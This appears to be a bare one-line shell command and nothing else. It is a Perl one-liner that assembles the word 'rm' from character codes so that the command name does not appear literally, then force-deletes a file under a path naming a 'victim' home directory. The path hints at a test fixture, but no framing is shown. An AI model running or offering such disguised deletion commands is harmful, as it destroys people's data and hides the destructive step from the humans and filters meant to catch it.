perl -e '$c=join("",map{chr}114,109); `$c -f /srv/rt/s/d1/home/victim/keep-D43`'
